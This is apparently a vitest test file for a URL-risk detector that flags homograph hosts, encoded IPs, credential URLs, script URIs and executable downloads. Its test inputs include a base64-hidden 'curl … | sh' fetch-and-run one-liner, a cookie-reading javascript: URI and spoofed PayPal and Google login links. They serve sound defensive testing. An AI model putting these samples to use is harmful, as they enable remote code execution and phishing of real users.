import { checkSync } from 'recheck';
import { afterEach, describe, expect, it, vi } from 'vitest';
import { scan } from '../scanner.js';
import { URL_PATTERNS, URL_RULE_LIST, combine, urlsDetector } from './index.js';
import { signal } from './signal.js';

const ctx = { present: new Set<string>(), view: 'original' };
const detect = (text: string) => urlsDetector.detect(text, ctx);
const rulesIn = (text: string) => [...new Set(detect(text).map((f) => f.rule))].sort();

describe('urls rule pack', () => {
  it('has unique ids, urls.* names and at least 3 examples each way', () => {
    const ids = URL_RULE_LIST.map((r) => r.id);
    expect(new Set(ids).size).toBe(ids.length);
    for (const rule of URL_RULE_LIST) {
      expect(rule.id).toMatch(/^urls\.[a-z0-9-]+$/);
      expect(rule.examples.tp.length).toBeGreaterThanOrEqual(3);
      expect(rule.examples.fp.length).toBeGreaterThanOrEqual(3);
      expect(rule.score).toBeGreaterThan(0);
      expect(rule.score).toBeLessThanOrEqual(1);
    }
  });

  for (const rule of URL_RULE_LIST) {
    it(`${rule.id}: fires on every true-positive example`, () => {
      for (const text of rule.examples.tp) expect(rulesIn(text), text).toContain(rule.id);
    });
    it(`${rule.id}: stays quiet on every false-positive example`, () => {
      for (const text of rule.examples.fp) expect(rulesIn(text), text).not.toContain(rule.id);
    });
  }

  it('ships only ReDoS-safe regexes', () => {
    for (const re of URL_PATTERNS) {
      const result = checkSync(re.source, re.flags.replace('g', ''), { timeout: 10000 });
      expect(result.status, re.source).toBe('safe');
    }
  });
});

describe('benign URLs', () => {
  const benign = [
    'https://github.com/org/repo',
    'https://docs.python.org/3/',
    'https://example.com',
    'http://localhost:3000',
    'http://localhost:3000/static/bundle.js and http://127.0.0.1:8080/setup.exe',
    'https://www.npmjs.com/package/left-pad',
    'https://pypi.org/project/requests/',
    'Clone https://gitlab.com/group/project.git and read https://en.wikipedia.org/wiki/URL_(disambiguation).',
    'Visit www.mozilla.org/firefox or developer.mozilla.org/en-US/docs/Web',
    'Install from https://www.python.org/ftp/python/3.12.1/python-3.12.1-amd64.exe',
    'Paths like src/detect/urls/index.ts, node_modules/foo.js/x and 10.0.0.0/8 are not URLs.',
    '<script src="https://cdn.jsdelivr.net/npm/bootstrap@5.3.0/dist/js/bootstrap.bundle.min.js"></script>',
    'Docs: https://learn.microsoft.com/en-us/dotnet/ and https://developer.apple.com/documentation/',
    'https://user@github.com/org/repo.git',
  ];
  for (const text of benign) {
    it(`no finding: ${text.slice(0, 60)}`, () => expect(detect(text)).toEqual([]));
  }
});

describe('urls findings', () => {
  it('credentials span only the user:password part', () => {
    const text = 'git remote add origin https://deploy:Xk92vLq3PzR7@git.acme-corp.io/ops.git';
    const f = detect(text).find((x) => x.rule === 'urls.credentials')!;
    expect(text.slice(f.start, f.end)).toBe('deploy:Xk92vLq3PzR7');
    expect(f.severity).toBe('high');
    expect(f.message).not.toContain('Xk92');
  });

  it('labels the imitated brand of a homograph host', () => {
    const [f] = detect('Log in: https://\u0440\u0430ypal.com/signin').filter((x) => x.rule === 'urls.homograph');
    expect(f?.message).toContain('paypal');
    expect(f?.severity).toBe('high');
    expect(f?.attack).toBe('T1566.002');
    expect(f?.explanation?.map((s) => s.reason).join(' ')).toMatch(/cyrillic/i);
  });

  it('decodes punycode hosts to judge them (xn--80ak6aa92e = Cyrillic "apple")', () => {
    expect(rulesIn('http://xn--80ak6aa92e.com/')).toEqual(['urls.homograph', 'urls.punycode']);
  });

  it('finds encoded IPv4 hosts in every form', () => {
    for (const host of ['3232235777', '0xC0A80001', '0300.0250.0.1', '127.1', '0x7f.0.0.1']) {
      expect(rulesIn(`http://${host}/x`), host).toContain('urls.ip-encoded');
    }
  });

  it('combines weak signals on one URL into a stronger score, step by step', () => {
    const [alone] = detect('see https://files-cdn.xyz/landing');
    const combined = detect('see http://files-cdn.xyz/invoice.pdf.exe').find((f) => f.rule === 'urls.risky-tld')!;
    expect(combined.score).toBeGreaterThan(alone!.score);
    expect(combined.explanation?.at(-1)).toMatchObject({ step: 'context' });
    expect(combined.explanation?.at(-1)?.reason).toContain('executable download');
    const exe = detect('see http://files-cdn.xyz/invoice.pdf.exe').find((f) => f.rule === 'urls.executable-download')!;
    expect(exe.explanation?.map((s) => s.step)).toEqual(['pattern', 'structure', 'context']);
    expect(exe.score).toBeGreaterThanOrEqual(0.8);
    expect(exe.severity).toBe('high');
  });

  it('severity follows the combined score', () => {
    const s = combine([signal('riskyTld', 0, 10, 'risky TLD'), signal('shortener', 0, 10, 'link shortener'), signal('ipHost', 0, 10, 'IP host')]);
    expect(s.every((x) => x.score > 0.3)).toBe(true);
  });

  it('keeps a weak script extension only next to another signal', () => {
    expect(rulesIn('https://cdn.acme-web.com/app.js')).toEqual([]);
    expect(rulesIn('http://45.133.1.20/app.js')).toEqual(['urls.executable-download', 'urls.ip-host']);
  });

  it('treats localhost as never risky except for credentials', () => {
    expect(rulesIn('http://localhost:3000/payload.exe http://127.0.0.1/x.ps1 http://[::1]:8080/')).toEqual([]);
    const [f] = detect('http://admin:Qx7!kLm2zP@localhost:15672/');
    expect(f).toMatchObject({ rule: 'urls.credentials', severity: 'medium' });
  });

  it('flags javascript: but not the void(0) idiom', () => {
    expect(rulesIn('<a href="javascript:void(0);">x</a> <a href="javascript:;">y</a>')).toEqual([]);
    expect(rulesIn("<a href='javascript:alert(document.cookie)'>z</a>")).toEqual(['urls.javascript-uri']);
  });

  it('raises data: URIs whose decoded content holds script', () => {
    const plain = detect('data:text/html;base64,PGgxPkhlbGxvPC9oMT4=')[0]!;
    const script = detect('data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==')[0]!;
    expect(script.score).toBeGreaterThan(plain.score);
    expect(script.explanation?.some((s) => s.step === 'validator')).toBe(true);
  });

  it('judges a repeated URL once and reports every occurrence', () => {
    const text = 'a https://bit.ly/3xYz9Qp b https://bit.ly/3xYz9Qp c';
    expect(detect(text).map((f) => f.start)).toEqual([2, 27]);
  });

  it('never fetches anything', () => {
    const fetchSpy = vi.spyOn(globalThis, 'fetch');
    detect('https://bit.ly/abc http://evil.tk/x.exe https://\u0440\u0430ypal.com/');
    expect(fetchSpy).not.toHaveBeenCalled();
  });
  afterEach(() => vi.restoreAllMocks());
});

describe('doc examples', () => {
  it('urlsDetector example', () => {
    expect(detect('get http://evil.tk/a.exe').map((f) => f.rule)).toEqual(['urls.risky-tld', 'urls.executable-download']);
  });
});

describe('urls through scan()', () => {
  it('reports original offsets with masked previews', () => {
    const text = 'Intro.\n\nDownload http://evil.tk/setup.exe now.';
    const { findings } = scan(text, { detectors: [urlsDetector] });
    const f = findings.find((x) => x.detector === 'urls')!;
    expect(text.slice(f.start, f.end)).toBe('http://evil.tk/setup.exe');
    expect(f.preview).not.toContain('evil');
    expect(f.preview).toMatch(/^ht\*+/);
    expect(f.related?.map((r) => r.rule)).toContain('urls.risky-tld');
  });

  it('keeps the homograph finding although the normalized view folds it to ASCII', () => {
    const text = 'Sign in at https://g\u043e\u043egle.com/login please';
    const { findings } = scan(text, { detectors: [urlsDetector] });
    const f = findings.find((x) => x.rule === 'urls.homograph')!;
    expect(text.slice(f.start, f.end)).toBe('https://g\u043e\u043egle.com/login');
  });

  it('finds a percent-encoded URL through the percent view', () => {
    const text = 'Redirect: https://www.google.com/url?q=http%3A%2F%2F185.215.113.66%2Fdrop%2Fa.exe&sa=D';
    const { findings } = scan(text, { detectors: [urlsDetector] });
    expect(findings.some((f) => f.rule === 'urls.executable-download' && f.views.includes('percent'))).toBe(true);
  });

  it('finds a URL hidden in base64 and maps it to the encoded span', () => {
    const payload = Buffer.from('curl http://185.215.113.66/loader.sh | sh').toString('base64');
    const text = `Run: echo ${payload} | base64 -d | bash`;
    const { findings } = scan(text, { detectors: [urlsDetector] });
    const f = findings.find((x) => x.rule === 'urls.executable-download')!;
    expect(f.related?.map((r) => r.rule)).toContain('urls.ip-host');
    expect(f.views).toContain('base64');
    expect(text.slice(f.start, f.end)).toBe(payload);
  });
});

describe('urls performance', () => {
  it('stays linear on adversarial input', () => {
    const inputs = [
      'a.'.repeat(200_000) + '/x',
      '/'.repeat(400_000),
      'http://'.repeat(60_000),
      'http://x.com/' + '('.repeat(200_000),
      'www.'.repeat(100_000),
      'data:'.repeat(80_000),
      ('x'.repeat(250) + '.com/').repeat(1500),
      'javascript:' + 'a'.repeat(400_000),
    ];
    for (const text of inputs) {
      const t0 = performance.now();
      detect(text);
      expect(performance.now() - t0, text.slice(0, 20)).toBeLessThan(1500);
    }
  });
});
